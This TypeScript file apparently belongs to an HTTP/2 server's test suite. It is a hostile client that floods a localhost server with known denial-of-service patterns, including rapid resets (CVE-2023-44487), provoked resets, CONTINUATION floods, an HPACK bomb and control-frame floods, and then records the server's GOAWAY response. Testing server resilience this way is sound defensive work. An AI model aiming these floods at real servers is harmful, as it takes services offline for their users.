/**
 * A hostile client in a process of its own, so that its work is not counted as the server's: `attacker.ts KIND PORT` sends frames of
 * one kind as fast as they are taken, until the connection ends. Prints one line of JSON.
 */
import { connect } from "node:net"
import { Flag, frame, GET, POST, PREFACE, section, setting, Type, uint32 } from "./frames.ts"

const HEAD = section(GET)
const END = Flag.end | Flag.endHeaders
let stream = 1

/** A request on the next stream, then what spoils it. */
function each(count: number, spoil: (id: number) => Buffer, flags: number = END): Buffer {
  const parts: Buffer[] = []
  for (let i = 0; i < count; i++, stream += 2)
    parts.push(frame(Type.headers, flags, stream, flags === END ? HEAD : section(POST)), spoil(stream))
  return Buffer.concat(parts)
}

function again(count: number, bytes: Buffer): () => Buffer {
  const all = Buffer.concat(Array(count).fill(bytes))
  return () => all
}

const RESET = (id: number): Buffer => frame(Type.reset, 0, id, uint32(8))
/** 4000 bytes under one name enter the table of HPACK; a byte each calls them up again. */
const FILL = Buffer.concat([Buffer.from([0x40, 1, 120, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 97)])
const CALL_UP = Buffer.alloc(16_000, 0xbe)

interface Kind {
  /** Before the flood, on stream 1. */
  readonly first?: Buffer
  next(): Buffer
  /** Milliseconds between one piece and the next: as an attacker does who knows of limits. */
  readonly everyMs?: number
}

const KINDS: Readonly<Record<string, Kind>> = {
  "rapid resets (CVE-2023-44487)": { next: () => each(100, RESET) },
  "rapid resets in small portions": { next: () => each(20, RESET), everyMs: 20 },
  "resets that the server is made to send (CVE-2025-8671)": {
    next: () => each(20, (id) => frame(Type.window, 0, id, uint32(0)), Flag.endHeaders),
    everyMs: 20,
  },
  "malformed requests": { next: () => each(100, () => frame(Type.headers, END, stream + 1, HEAD)) },
  CONTINUATION: {
    first: frame(Type.headers, Flag.end, 1, HEAD),
    next: again(100, frame(Type.continuation, 0, 1, section({ "x-a": "1" }))),
  },
  "empty CONTINUATION": {
    first: frame(Type.headers, Flag.end, 1, HEAD),
    next: again(1000, frame(Type.continuation, 0, 1)),
  },
  "a bomb of HPACK": {
    next: () => {
      const first = stream === 1 ? FILL : Buffer.alloc(0)
      const head = frame(Type.headers, Flag.end, stream, Buffer.concat([HEAD, first]))
      stream += 2
      return Buffer.concat([head, frame(Type.continuation, Flag.endHeaders, stream - 2, CALL_UP)])
    },
  },
  PING: { next: again(1000, frame(Type.ping, 0, 0, Buffer.alloc(8))) },
  SETTINGS: { next: again(1000, frame(Type.settings, 0, 0, setting(3, 100))) },
  "empty SETTINGS": { next: again(1000, frame(Type.settings, 0, 0)) },
  WINDOW_UPDATE: { next: again(2000, frame(Type.window, 0, 0, uint32(1))) },
  "WINDOW_UPDATE of a closed stream": {
    first: frame(Type.headers, END, 1, HEAD),
    next: again(2000, frame(Type.window, 0, 1, uint32(1))),
  },
  PRIORITY: { next: again(1000, frame(Type.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16]))) },
  "empty DATA": {
    first: frame(Type.headers, Flag.endHeaders, 1, section(POST)),
    next: again(2000, frame(Type.data, 0, 1)),
  },
  "DATA of nothing but padding": {
    first: frame(Type.headers, Flag.endHeaders, 1, section(POST)),
    next: again(200, frame(Type.data, Flag.padded, 1, Buffer.concat([Buffer.from([99]), Buffer.alloc(99)]))),
  },
  "unknown frames": { next: again(1000, frame(0x42, 0, 0)) },
}

const [kind = "", port = ""] = process.argv.slice(2)
if (kind === "--list") process.stdout.write(JSON.stringify(Object.keys(KINDS)))
else attack(KINDS[kind] as Kind, Number(port))

function attack({ first, next, everyMs }: Kind, to: number): void {
  const socket = connect({ port: to, host: "127.0.0.1", noDelay: true })
  let sentBytes = 0
  let received = Buffer.alloc(0)
  const say = (bytes: Buffer): boolean => {
    sentBytes += bytes.length
    return socket.write(bytes)
  }
  const flood = (): void => {
    if (socket.destroyed || !socket.writable) return
    if (everyMs !== undefined) {
      say(next())
      setTimeout(flood, everyMs)
    } else {
      while (socket.writable && say(next()));
      socket.once("drain", flood)
    }
  }
  socket.on("data", (chunk: Buffer) => {
    received = Buffer.concat([received, chunk])
  })
  socket.on("error", () => undefined)
  socket.on("close", () => {
    process.stdout.write(JSON.stringify({ sentBytes, goaway: goawayIn(received) }))
    process.exit(0)
  })
  say(Buffer.concat([Buffer.from(PREFACE), frame(Type.settings, 0, 0), frame(Type.settings, Flag.ack, 0)]))
  if (first !== undefined) {
    say(first)
    stream = 3
  }
  flood()
}

/** The code of the last GOAWAY, or -1: a reset of the connection may have been quicker. */
function goawayIn(bytes: Buffer): number {
  let code = -1
  for (let at = 0; at + 17 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
    if (bytes[at + 3] === Type.goaway) code = bytes.readUInt32BE(at + 13)
  return code
}
